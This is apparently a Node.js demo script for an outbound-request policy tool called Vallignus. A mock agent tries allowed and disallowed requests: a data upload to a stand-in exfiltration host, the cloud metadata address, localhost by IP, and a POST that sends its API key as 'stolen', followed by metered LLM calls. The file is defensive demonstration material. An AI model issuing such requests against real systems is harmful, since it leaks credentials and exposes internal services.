// The demo's agent: an ordinary Node program with no Vallignus code in it. It makes a few
// requests with the global fetch, then uses its OpenAI key in a loop; Vallignus decides each
// request before it leaves.
const [port, llmPort] = process.argv.slice(2);
const targets = [
  ["an allowed API call", `http://api.demo.test:${port}/v1/status`],
  ["a host the policy does not allow", `http://exfil.demo.test:${port}/upload?data=secret`],
  ["the cloud metadata address", "http://169.254.169.254/latest/meta-data/"],
  ["localhost, by IP literal", `http://127.0.0.1:${port}/admin`],
];

async function show(what, url, init) {
  try {
    const res = await fetch(url, init);
    const body = await res.json();
    const text = body.choices?.[0]?.message?.content;
    const verdict =
      res.status === 403
        ? `denied: ${body.deny_reason}`
        : `${res.status} ${text === undefined ? JSON.stringify(body) : JSON.stringify(text)}`;
    console.log(`  agent: ${what.padEnd(34)} -> ${verdict}`);
    return res.status;
  } catch (err) {
    console.log(`  agent: ${what.padEnd(34)} -> error ${err.message}`);
    return 0;
  }
}

for (const [what, url] of targets) await show(what, url);

// The key in the agent's environment is a stand-in, made for this run: worthless anywhere else.
const key = process.env.OPENAI_API_KEY ?? "";
console.log(`  agent: my OPENAI_API_KEY is ${key.slice(0, 14)}… (${key.length} characters)`);
await show("send the key to an allowed host", `http://api.demo.test:${port}/v1/status`, {
  method: "POST",
  body: JSON.stringify({ stolen: key }),
});

// Metered calls with the stand-in, until the budget stops the agent.
for (let i = 1; i <= 50; i++) {
  await show(`LLM call ${i}`, `https://api.openai.com:${llmPort}/v1/chat/completions`, {
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
    body: JSON.stringify({
      model: "demo-gpt",
      max_tokens: 100,
      messages: [{ role: "user", content: "Say hello." }],
    }),
  });
}
